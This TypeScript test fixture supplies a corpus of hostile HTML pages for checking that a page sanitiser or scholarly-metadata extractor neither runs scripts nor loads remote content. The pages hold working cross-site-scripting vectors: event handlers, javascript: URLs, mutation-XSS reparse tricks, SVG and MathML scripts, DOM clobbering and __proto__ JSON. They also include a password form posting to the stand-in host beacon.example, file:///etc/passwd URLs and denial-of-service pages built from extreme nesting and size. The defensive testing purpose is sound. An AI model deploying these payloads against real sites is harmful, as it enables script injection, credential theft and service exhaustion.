/**
 * Pages that try to run something, to load something from elsewhere, to pass for another, or to keep the reader busy. What
 * runs would call `told`, which is looked for in the kept page; what loads would ask the host `beacon.example`.
 */
const told = 'parent.told=1;top.told=1;fetch("https://beacon.example/ran")';
const many = (n: number, unit: string | ((i: number) => string)) =>
  Array.from({ length: n }, (_, i) => (typeof unit === 'string' ? unit : unit(i))).join('');
const page = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sluices of the sound</title>${head}</head><body><main><h1>Sluices of the sound</h1><p>The pond was shut at neaps and opened at springs.</p>${body}</main></body></html>`;
const deep = (n: number, open: string, close: string) => page(open.repeat(n) + 'deep' + close.repeat(n));

/** Pages by what they try. */
export const HOSTILE_PAGES: Record<string, string> = {
  'a script': page(`<script>${told}</script><script src="https://beacon.example/x.js"></script>`),
  'handlers of events': page(`<p onclick='${told}' onmouseover='${told}'>a</p><img src=x onerror='${told}'><svg onload='${told}'></svg><body onload='${told}'><details ontoggle='${told}' open>x</details><input autofocus onfocus='${told}'>`),
  'addresses that run': page(`<a href='javascript:${told}'>a</a><a href='JaVaScRiPt:${told}'>b</a><a href=' \tjava\nscript:${told}'>c</a><a href='&#106;avascript:${told}'>d</a><a href='data:text/html,<script>${told}</script>'>e</a><a href='vbscript:x'>f</a>`),
  'frames and objects': page(`<iframe src="https://beacon.example/"></iframe><iframe srcdoc="<script>${told.replace(/"/g, "'")}</script>"></iframe><object data="https://beacon.example/"></object><embed src="https://beacon.example/"><applet code=x></applet><portal src="https://beacon.example/"></portal>`),
  'a base of its own': page('<a href="/x">x</a>', '<base href="https://beacon.example/"><base target="_top">'),
  'a refresh': page('', `<meta http-equiv="refresh" content="0;url=https://beacon.example/"><meta http-equiv="refresh" content="0;url=javascript:${told.replace(/"/g, "'")}">`),
  'a policy of its own': page('', '<meta http-equiv="content-security-policy" content="default-src *; script-src * \'unsafe-inline\'">'),
  'styles that load': page('<p style="background:url(https://beacon.example/b)">a</p><div style="position:fixed;inset:0">over all</div>', '<style>@import url(https://beacon.example/i);p{background:url(https://beacon.example/s)}@font-face{font-family:x;src:url(https://beacon.example/f)}</style><link rel="stylesheet" href="https://beacon.example/c">'),
  'links that load': page('', '<link rel="preload" as="image" href="https://beacon.example/p"><link rel="prefetch" href="https://beacon.example/q"><link rel="dns-prefetch" href="//beacon.example"><link rel="modulepreload" href="https://beacon.example/m"><link rel="icon" href="https://beacon.example/i">'),
  'pictures that load': page('<img src="https://beacon.example/1"><picture><source srcset="https://beacon.example/2"><img srcset="https://beacon.example/3 2x"></picture><video poster="https://beacon.example/4" src="https://beacon.example/5" autoplay></video><audio src="https://beacon.example/6" autoplay></audio><input type="image" src="https://beacon.example/7"><table background="https://beacon.example/8"><td background="https://beacon.example/9">x</table>'),
  'a form': page(`<form action="https://beacon.example/" method="post"><input name="pass" type="password"><button formaction='javascript:${told}'>Sign in again</button></form><button form="x" formaction="https://beacon.example/">y</button>`),
  'drawings with scripts': page(`<svg><script>${told}</script><a xlink:href='javascript:${told}'><text>x</text></a><use href="https://beacon.example/u#a"></use><foreignObject><iframe srcdoc="x"></iframe></foreignObject><animate onbegin='${told}' attributeName=x dur=1s></svg>`),
  'formulas with scripts': page(`<math><mtext><table><mglyph><style><img src=x onerror='${told}'></style></mglyph></table></mtext><maction actiontype="statusline#http://beacon.example" xlink:href='javascript:${told}'>x</maction></math>`),
  'what changes when it is parsed again': page(`<form><math><mtext></form><form><mglyph><style></math><img src onerror='${told}'></form><noscript><p title="</noscript><img src=x onerror='${told}'>"></noscript><textarea></textarea><img src=x onerror='${told}'></textarea><xmp></xmp><img src=x onerror='${told}'></xmp><plaintext><img src=x onerror='${told}'>`),
  'names of what documents have': page('<form name="body"><input name="firstChild"></form><img name="createElement"><a id="location">x</a><a id="cookie"></a><form id="document"><input name="getElementById"></form><input id="attributes" name="nodeName">'),
  'templates and shadows': page(`<template><script>${told}</script></template><div><template shadowrootmode="open"><script>${told}</script><img src=x onerror='${told}'></template></div><slot name=x></slot>`),
  'custom elements': page(`<x-a onclick='${told}'><p is="x-b">x</p></x-a>`),
  'comments that end early': page(`<!--><script>${told}</script>--><!--[if IE]><script>${told}</script><![endif]--><!-- --!><img src=x onerror='${told}'>`),
  'control characters': page('a\u0001b\u0008c\u000bd\u001be <b>bold\u0000</b> \ufffe\uffff'),
  'directions turned round': page('<p>\u202egnp.exe \u2066 \u2067 \u202d end</p>', '<meta name="citation_title" content="Title \u202eesrever">'),
  'fields that are addresses': page('', `<meta name="citation_title" content="Sluices"><meta name="citation_pdf_url" content="javascript:${told.replace(/"/g, "'")}"><link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="file:///etc/passwd"><meta name="citation_author" content="&lt;img src=x onerror='${told.replace(/"/g, '')}'&gt;">`),
  'markup in fields': page('', `<meta name="citation_title" content="&lt;script&gt;${told.replace(/"/g, "'")}&lt;/script&gt;&lt;img src=x onerror='${told.replace(/["']/g, '')}'&gt; Weirs"><meta name="citation_journal_title" content="&lt;i onclick='x'&gt;Weirs&lt;/i&gt;">`),
  'JSON that is none': page('', `<script type="application/ld+json">{"@type":"Article","headline":</script><script type="application/ld+json">[null,1,"x",{"@type":null,"author":[null,{"name":{"a":1}}]}]</script><script type="application/ld+json">${'['.repeat(50_000)}</script>`),
  'JSON with names of what objects have': page('', '<script type="application/ld+json">{"@type":"ScholarlyArticle","__proto__":{"name":"x"},"constructor":{"name":"y"},"name":"Sluices","author":{"__proto__":1,"name":"constructor"}}</script>'),
  'items that hold themselves': page('<div itemscope itemtype="https://schema.org/Article" id="a" itemref="b a"><span itemprop="name">Sluices</span></div><div id="b" itemprop="isPartOf" itemscope itemtype="https://schema.org/Periodical" itemref="a"><span itemprop="name">x</span></div>'),
  'eight thousand paragraphs': page(many(8_000, (i) => `<p>Paragraph ${i} of the survey.</p>`)),
  'two thousand rows of a plain list': page(`<ul>${many(2_000, (i) => `<li><a href="/a/${i}">The sluices of the northern pond ${i}</a> Ng, T. (20${String(i % 100).padStart(2, '0')}), pp. ${i}–${i + 9}</li>`)}</ul>`),
  'a list of addresses that run': page(`<ul>${many(12, (i) => `<li><a href="javascript:void(${i})//x/y">The sluices of the northern pond ${i}</a> Ng, T. 2001, pp. 1–9</li>`)}</ul>`, `<script type="application/ld+json">{"@type":"ItemList","itemListElement":[${many(4, (i) => `{"@type":"Book","name":"The sluices number ${i}","url":"file:///etc/passwd${i}"},`)}{"@type":"Book","name":"Last of the sluices","url":"javascript:alert(1)"}]}</script>`),
  'elements ten thousand deep': deep(10_000, '<div>', '</div>'),
  'marks ten thousand deep': deep(10_000, '<b><i>', '</i></b>'),
  'tables in tables': deep(300, '<table><tr><td>', '</td></tr></table>'),
  'properties in properties': deep(500, '<div vocab="https://schema.org/" typeof="Article" property="isPartOf">', '</div>'),
  'a million entities': page(`<p>${'&amp;'.repeat(200_000)}</p>`),
  'one word of a megabyte': page(`<p>${'a'.repeat(1_000_000)}</p>`, `<meta name="author" content="${'a'.repeat(4_000)}@"><meta name="citation_author" content="${'x@'.repeat(2_000)}">`),
  'a tag that does not end': page(`<p title="${'x'.repeat(300_000)}`),
  'fifty thousand attributes': page(`<p ${many(50_000, (i) => `a${i}=1 `)}>x</p>`),
  'twenty thousand links and authors': page(many(20_000, (i) => `<a href="/b/${i}.bib">b</a>`), many(3_000, (i) => `<meta name="citation_author" content="Ng, T. ${i}">`)),
  'four thousand embedded references': page(many(4_000, (i) => `<span class="Z3988" title="ctx_ver=Z39.88-2004&amp;rft_val_fmt=info:ofi/fmt:kev:mtx:journal&amp;rft.atitle=Sluices+${i}&amp;rft.au=Ng"></span>`)),
}; // prettier-ignore
